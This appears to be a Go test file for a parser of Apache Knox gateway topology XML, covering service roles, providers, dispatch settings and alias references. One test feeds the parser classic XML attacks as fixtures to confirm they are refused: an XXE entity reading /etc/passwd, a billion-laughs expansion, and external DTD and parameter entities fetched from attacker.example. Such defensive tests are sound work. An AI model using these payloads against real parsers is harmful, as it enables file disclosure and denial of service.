package topology

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

func knoxServiceDoc(role, url string) string {
	return "<topology><service><role>" + role + "</role><url>" + url + "</url></service></topology>"
}

func TestKnoxServiceRoles(t *testing.T) {
	tests := []struct {
		role, url string
		path      string
		websocket bool
	}{
		{"WEBHDFS", "http://h:9870/webhdfs", "webhdfs", false},
		{"WEBHBASE", "http://h:8080", "hbase", false},
		{"OOZIE", "http://h:11000/oozie", "oozie", false},
		{"HIVE", "http://h:10001/cliservice", "hive", false},
		{"RESOURCEMANAGER", "http://h:8088/ws", "resourcemanager", false},
		{"YARNUI", "http://h:8088", "yarn", false},
		{"LIVYSERVER", "http://h:8998", "livy", false},
		{"ZEPPELINUI", "http://h:8080", "zeppelin", false},
		{"ZEPPELINWS", "ws://h:8080/ws", "zeppelin/ws", true},
		{"KNOXTOKEN", "http://unused", "knoxtoken", false},
		{"ECHO", "http://h", "echo", false},
		{"ECHOWS", "ws://h/ws", "echows", true},
		{"WEBSOCKET", "ws://h/ws", "echows", true},
		{"WEBHCAT", "http://h:50111/templeton", "templeton", false},
		{"webhdfs", "http://h", "webhdfs", false},      // roles are case-insensitive
		{"ZEPPELINUI", "wss://h/ws", "zeppelin", true}, // ws URLs imply WebSocket, as in Knox
	}
	for _, tt := range tests {
		t.Run(tt.role+" "+tt.url, func(t *testing.T) {
			top, err := Parse([]byte(knoxServiceDoc(tt.role, tt.url)), xmlF, "t.xml", "")
			if err != nil {
				t.Fatal(err)
			}
			s := top.Services[0]
			if s.Path != tt.path || s.WebSocket != tt.websocket || s.Role != strings.ToUpper(tt.role) {
				t.Errorf("got path %q websocket %t role %q, want %q %t %q", s.Path, s.WebSocket, s.Role, tt.path, tt.websocket, strings.ToUpper(tt.role))
			}
			if len(s.URLs) != 1 || s.URLs[0] != tt.url {
				t.Errorf("urls = %q", s.URLs)
			}
		})
	}
}

func TestKnoxProviders(t *testing.T) {
	tests := []struct {
		role, name, enabled string
		wantRole, wantName  string
		wantEnabled         bool
		wantErr             string
	}{
		{"authentication", "ShiroProvider", "true", "authentication", "ldap", true, ""},
		{"authentication", "Anonymous", "", "authentication", "anonymous", true, ""},
		{"authentication", "BasicAuth", "TRUE", "authentication", "basic", true, ""},
		{"authentication", "HadoopAuth", "True", "authentication", "kerberos", true, ""},
		{"federation", "HeaderPreAuth", "false", "federation", "header-preauth", false, ""},
		{"federation", "SSOCookieProvider", "FALSE", "federation", "sso-cookie", false, ""},
		{"federation", "JWTProvider", "true", "federation", "jwt", true, ""},
		{"federation", "Pac4j", "true", "federation", "pac4j", true, ""},
		{"identity-assertion", "Default", "true", "identity-assertion", "default", true, ""},
		{"identity-assertion", "Pseudo", "true", "identity-assertion", "default", true, ""},
		{"identity-assertion", "Concat", "true", "identity-assertion", "concat", true, ""},
		{"identity-assertion", "Regex", "true", "identity-assertion", "regex", true, ""},
		{"identity-assertion", "SwitchCase", "true", "identity-assertion", "switch-case", true, ""},
		{"identity-assertion", "HadoopGroupProvider", "true", "identity-assertion", "hadoop-groups", true, ""},
		{"authorization", "AclsAuthz", "true", "authorization", "acls", true, ""},
		{"webappsec", "WebAppSec", "true", "webappsec", "webappsec", true, ""},
		{"ha", "HaProvider", "false", "ha", "ha", false, ""}, // an enabled one becomes service failover (knox_ha_test.go)
		{"hostmap", "static", "true", "hostmap", "static", true, ""},
		{"Authentication", "shiroprovider", "true", "authentication", "ldap", true, ""},
		// Unknown roles and names are kept in lower case: Validate refuses
		// them by name, along with every other problem of the document.
		{"authentication", "KerberosMagic", "true", "authentication", "kerberosmagic", true, ""},
		{"federation", "ShiroProvider", "true", "federation", "shiroprovider", true, ""},
		{"rewrite", "Default", "true", "rewrite", "default", true, ""},
		{"authentication", "Anonymous", "yes", "", "", false, `provider "Anonymous": <enabled>: "yes" is not true or false`},
		{"authentication", "Anonymous", "1", "", "", false, `"1" is not true or false`},
		{"authentication", "Anonymous", "<!-- empty -->", "", "", false, `"" is not true or false`},
	}
	for _, tt := range tests {
		t.Run(tt.role+"/"+tt.name+"/"+tt.enabled, func(t *testing.T) {
			enabled := ""
			if tt.enabled != "" {
				enabled = "<enabled>" + tt.enabled + "</enabled>"
			}
			doc := fmt.Sprintf("<topology><gateway><provider><role>%s</role><name>%s</name>%s<param><name>k</name><value> v ${x} </value></param></provider></gateway>"+
				"<service><role>ECHO</role><url>http://h</url></service></topology>", tt.role, tt.name, enabled)
			top, err := Parse([]byte(doc), xmlF, "t.xml", "")
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("error %v, want %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			p := top.Providers[0]
			if p.Role != tt.wantRole || p.Name != tt.wantName || p.IsEnabled() != tt.wantEnabled {
				t.Errorf("got %s/%s enabled %t, want %s/%s %t", p.Role, p.Name, p.IsEnabled(), tt.wantRole, tt.wantName, tt.wantEnabled)
			}
			if p.Params["k"] != "v ${x}" {
				t.Errorf("params = %q, want k passed through (trimmed)", p.Params)
			}
		})
	}
}

// A Knox service role is published where the catalogue says, whatever its
// case in the document.
func TestKnoxOtherServiceRoles(t *testing.T) {
	top, err := Parse([]byte("<topology>\n\n<service><role>Druid-Broker</role><url>http://h</url></service></topology>"), xmlF, "t.xml", "")
	if err != nil {
		t.Fatal(err)
	}
	if s := top.Services[0]; s.Role != "DRUID-BROKER" || s.Path != "druid-broker" || s.Line != 3 {
		t.Fatalf("service %+v", s)
	}
}

func TestKnoxDispatch(t *testing.T) {
	tests := []struct {
		name, dispatch string
		want           *Dispatch
		wantErr        string
	}{
		{"seed 001 federation", "<classname>org.apache.knox.gateway.dispatch.HeaderPreAuthFederationDispatch</classname><use-two-way-ssl>true</use-two-way-ssl>",
			&Dispatch{Classname: "org.apache.knox.gateway.dispatch.HeaderPreAuthFederationDispatch", UseTwoWayTLS: true, Federate: true}, ""},
		{"two-way only", "<use-two-way-ssl>True</use-two-way-ssl>", &Dispatch{UseTwoWayTLS: true}, ""},
		{"two-way off", "<use-two-way-ssl>false</use-two-way-ssl>", nil, ""},
		{"other class", "<classname>org.apache.knox.gateway.dispatch.PassAllHeadersDispatch</classname>",
			&Dispatch{Classname: "org.apache.knox.gateway.dispatch.PassAllHeadersDispatch"}, ""},
		{"empty", "", nil, ""},
		{"bad bool", "<use-two-way-ssl>on</use-two-way-ssl>", nil, `<use-two-way-ssl>: "on" is not true or false`},
		{"ha class", "<ha-classname>x.Y</ha-classname>", nil, "<dispatch><ha-classname> is not supported"},
		{"unknown", "<timeout>3</timeout>", nil, "unknown element <timeout> in <dispatch>"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			doc := "<topology><service><role>WEBHDFS</role><url>https://h</url><dispatch>" + tt.dispatch + "</dispatch></service></topology>"
			top, err := Parse([]byte(doc), xmlF, "t.xml", "")
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("error %v, want %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			got := top.Services[0].Dispatch
			if fmt.Sprint(got) != fmt.Sprint(tt.want) || (got != nil && *got != *tt.want) {
				t.Errorf("dispatch = %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestKnoxAliasReferences(t *testing.T) {
	doc := `<topology><service><role>ECHO</role><url>http://h</url>
<param><name>a</name><value>${ALIAS=ldcSystemPassword}</value></param>
<param><name>b</name><value>x${ALIAS=one}y${ALIAS=two}</value></param>
<param><name>c</name><value>${alias=lower}</value></param>
</service></topology>`
	top, err := Parse([]byte(doc), xmlF, "t.xml", "")
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"a": "${alias:ldcSystemPassword}", "b": "x${alias:one}y${alias:two}", "c": "${alias=lower}"}
	if fmt.Sprint(top.Services[0].Params) != fmt.Sprint(want) {
		t.Errorf("params = %q, want %q", top.Services[0].Params, want)
	}
	if got := fmt.Sprint(AliasRefs(top)); got != "[ldcSystemPassword one two]" {
		t.Errorf("AliasRefs = %s", got)
	}
}

// TestKnoxRefusesDeclarations feeds the classic XML attacks. Each must fail
// on the declaration, quickly, without reading a file or expanding anything.
func TestKnoxRefusesDeclarations(t *testing.T) {
	const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<topology><service><role>ECHO</role><url>http://h</url><param><name>p</name><value>&lol9;</value></param></service></topology>`
	tests := []struct {
		name, doc, want string
	}{
		{"external entity file:///etc/passwd", `<?xml version="1.0"?>
<!DOCTYPE topology [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<topology><service><role>ECHO</role><url>http://h</url><param><name>p</name><value>&xxe;</value></param></service></topology>`,
			"line 2: <!DOCTYPE ...> is not allowed"},
		{"billion laughs", laughs, "line 13: <!DOCTYPE ...> is not allowed"},
		{"external DTD", `<!DOCTYPE topology SYSTEM "http://attacker.example/evil.dtd"><topology/>`, "<!DOCTYPE ...> is not allowed"},
		{"parameter entity", `<!DOCTYPE t [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><topology/>`, "<!DOCTYPE ...> is not allowed"},
		{"bare ENTITY", `<!ENTITY x "y"><topology/>`, "<!ENTITY ...> is not allowed"},
		{"DOCTYPE inside the root", "<topology>\n<!DOCTYPE x><gateway/></topology>", "line 2: <!DOCTYPE ...> is not allowed"},
		{"undeclared entity", `<topology><service><role>&xxe;</role></service></topology>`, "invalid character entity &xxe;"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			start := time.Now()
			top, err := Parse([]byte(tt.doc), 0, "t.xml", "")
			if err == nil {
				t.Fatalf("Parse succeeded: %+v", top)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %q, want %q", err, tt.want)
			}
			if strings.Contains(err.Error(), "root:") || strings.Contains(err.Error(), "lollol") {
				t.Errorf("error shows expanded content: %q", err)
			}
			if d := time.Since(start); d > time.Second {
				t.Errorf("took %v", d)
			}
		})
	}
}

// Knox's identity assertion puts the asserted user in the query of every
// request it dispatches: user.name, or doAs when the gateway itself
// authenticates to Kerberized backends. A converted topology does the
// same unless the document says otherwise.
func TestKnoxAssertsUserInQuery(t *testing.T) {
	const ia = "<provider><role>identity-assertion</role><name>Default</name><enabled>true</enabled>%s</provider>"
	kerberos := "<provider><role>dispatch</role><name>kerberos</name><enabled>%s</enabled></provider>"
	tests := []struct {
		name, providers, want string
		warning               string // "": none
	}{
		{"Knox's default", fmt.Sprintf(ia, ""), "user.name", ""},
		{"Kerberized backends", fmt.Sprintf(ia, "") + fmt.Sprintf(kerberos, "true"), "doAs", ""},
		{"Kerberos dispatch disabled", fmt.Sprintf(ia, "") + fmt.Sprintf(kerberos, "false"), "user.name", ""},
		{"set in the document", fmt.Sprintf(ia, "<param><name>query_param</name><value>doAs</value></param>"), "doAs", ""},
		{"set to user.name despite Kerberos", fmt.Sprintf(ia, "<param><name>query_param</name><value>user.name</value></param>") + fmt.Sprintf(kerberos, "true"), "user.name",
			`service "webhdfs": the kerberos dispatch authenticates the gateway to the backend, and providers[1] at line 1 (identity-assertion) sends the user as query_param "user.name"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			doc := "<topology><gateway><provider><role>authentication</role><name>Anonymous</name><enabled>true</enabled></provider>" +
				tt.providers + "</gateway><service><role>WEBHDFS</role><url>http://nn:9870/webhdfs</url></service></topology>"
			top, err := Parse([]byte(doc), xmlF, "t.xml", "")
			if err != nil {
				t.Fatal(err)
			}
			for _, p := range top.Providers {
				if p.Role == "identity-assertion" && p.Params["query_param"] != tt.want {
					t.Fatalf("query_param = %q, want %q", p.Params["query_param"], tt.want)
				}
			}
			// user.name to Kerberized backends is ignored there: a warning.
			warnings, err := Validate(top)
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Join(warnings, "\n"); tt.warning == "" && got != "" || !strings.Contains(got, tt.warning) {
				t.Fatalf("warnings %q, want %q", got, tt.warning)
			}
		})
	}
	// Without identity assertion nothing is added anywhere.
	top, err := Parse([]byte("<topology><gateway><provider><role>authentication</role><name>Anonymous</name><enabled>true</enabled></provider></gateway>"+
		"<service><role>ECHO</role><url>http://h</url></service></topology>"), xmlF, "t.xml", "")
	if err != nil {
		t.Fatal(err)
	}
	if top.Providers[0].Params != nil {
		t.Fatalf("authentication params = %v", top.Providers[0].Params)
	}
}
